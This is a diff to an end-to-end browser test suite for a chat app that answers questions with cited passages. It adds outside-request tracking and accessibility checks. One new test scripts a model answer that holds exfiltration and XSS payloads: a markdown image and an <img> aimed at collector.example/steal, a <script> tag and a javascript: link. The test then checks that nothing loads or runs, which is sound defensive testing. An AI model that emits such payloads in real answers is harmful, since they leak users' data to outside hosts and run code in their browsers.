@@ -7,6 +7,7 @@ import { gunzipSync } from 'node:zlib'
 import type { Browser, BrowserContext, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
 import { type ScriptedModel, startScriptedModel } from '../api/test/scripted-model.ts'
+import { accessibilityFaults } from './chat/accessibility.ts'
 import {
   ask,
   chooseModel,
@@ -46,6 +47,8 @@ describe.skipIf(!hasChromium || !existsSync(PDF))('asking and citing', () => {
   let page: Page
   let owner: Session
   let collectionId = ''
+  /** Requests to anywhere but here, and what broke on a page. */
+  const faults: string[] = []
 
   beforeAll(async () => {
     model = await startScriptedModel()
@@ -66,11 +69,17 @@ describe.skipIf(!hasChromium || !existsSync(PDF))('asking and citing', () => {
     context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
     page = await context.newPage()
     await observeAnswers(page)
+    page.on('pageerror', (error) => faults.push(error.message))
+    context.on('request', (request) => {
+      const { protocol, origin } = new URL(request.url())
+      if (/^http/.test(protocol) && origin !== terrace.url) faults.push(`a request to ${origin}`)
+    })
   })
   afterAll(async () => {
     await browser?.close()
     await terrace?.[Symbol.asyncDispose]()
     await model?.close()
+    expect(faults).toEqual([])
   })
 
   /** A chat over the collection, open in a tab. */
@@ -152,9 +161,9 @@ describe.skipIf(!hasChromium || !existsSync(PDF))('asking and citing', () => {
     const { text } = await owner.query<{ text: string }>('documents.page', place)
     const marked = await page.locator('mark[data-passage-mark]').allInnerTexts()
     expect(words(marked.join(''))).toBe(words(text.slice(charStart, charEnd)))
-    await picture('ask-light.png')
+    expect(await accessibilityFaults(page)).toEqual([])
     await page.emulateMedia({ colorScheme: 'dark' })
-    await picture('ask-dark.png')
+    expect(await accessibilityFaults(page)).toEqual([])
     await page.emulateMedia({ colorScheme: 'light' })
 
     // Escape closes the source and gives the focus back to the number.
@@ -203,6 +212,23 @@ describe.skipIf(!hasChromium || !existsSync(PDF))('asking and citing', () => {
     expect(texts.at(-1)).toBe(words(await storedText(chatId)))
   })
 
+  test('an answer that tries to reach out asks for nothing and runs nothing', async () => {
+    const url = 'https://collector.example/steal'
+    model.script({
+      text: `![words](${url}?q=1) <img src="${url}"> <script>document.title='run'</script> [click](javascript:alert(1)) [here](${url}) done [1].`,
+    })
+    await openChat(page, 'scripted')
+    const answer = await ask(page, QUESTION)
+    await untilState(answer, 'done')
+    model.script({})
+    expect(await answer.locator('img, script, iframe').count()).toBe(0)
+    expect(
+      await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href'))),
+    ).toEqual([url])
+    expect(await page.title()).not.toBe('run')
+    expect(faults).toEqual([])
+  })
+
   test('a model that dies leaves its words, a code, and a way on', async () => {
     await openChat(page, 'dying')
     const answer = await ask(page, QUESTION)
@@ -238,7 +264,7 @@ describe.skipIf(!hasChromium || !existsSync(PDF))('asking and citing', () => {
     await answer.locator('[data-source="1"]').click()
     await page.locator('mark[data-passage-mark]').first().waitFor()
     expect(await markInView(page)).toBe(true)
-    await picture('passages-light.png')
+    await picture('passages.png')
   })
 
   test('eight tabs at once: at most two stream, all show the whole answer, and requests still get through', async () => {
@@ -286,13 +312,37 @@ describe.skipIf(!hasChromium || !existsSync(PDF))('asking and citing', () => {
     const answer = await ask(page, QUESTION)
     await untilState(answer, 'done')
     expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360)
-    await picture('ask-phone.png')
+    expect(await accessibilityFaults(page)).toEqual([])
     await answer.locator('[data-citation="1"]').first().click()
     await page.getByRole('dialog', { name: 'Source' }).locator('mark[data-passage-mark]').first().waitFor()
     expect(await markInView(page)).toBe(true)
-    await picture('source-phone.png')
     await page.keyboard.press('Escape')
     await page.getByRole('dialog', { name: 'Source' }).waitFor({ state: 'hidden' })
     await page.setViewportSize({ width: 1280, height: 800 })
+  })
+
+  // A language model says it in its own words; here the words are given, and the passages they cite are real.
+  test.runIf(process.env.SCREENSHOTS === '1')('the pictures of the README', async () => {
+    model.script({
+      rate: 30,
+      text: 'Run `apt update` first, so that the list of packages is fresh. Then:\n\n- **`apt upgrade`** upgrades every package, without installing extra ones or removing any [1].\n- **`apt full-upgrade`** also installs or removes packages where an upgrade needs it [1].\n\nBoth have to be run as root [1]. `apt-get` does the same from scripts [2].',
+    })
+    for (const [name, colorScheme, width, height] of [
+      ['ask-light.png', 'light', 1280, 800],
+      ['ask-dark.png', 'dark', 1280, 800],
+      ['ask-phone.png', 'light', 360, 740],
+    ] as const) {
+      await page.setViewportSize({ width, height })
+      await page.emulateMedia({ colorScheme })
+      await openChat(page, 'scripted')
+      const answer = await ask(page, QUESTION)
+      await untilState(answer, 'done')
+      if (width > 1000) {
+        await answer.locator('[data-citation="1"]').first().click()
+        await page.locator('mark[data-passage-mark]').first().waitFor()
+      }
+      await picture(name)
+    }
+    model.script({})
   })
 })
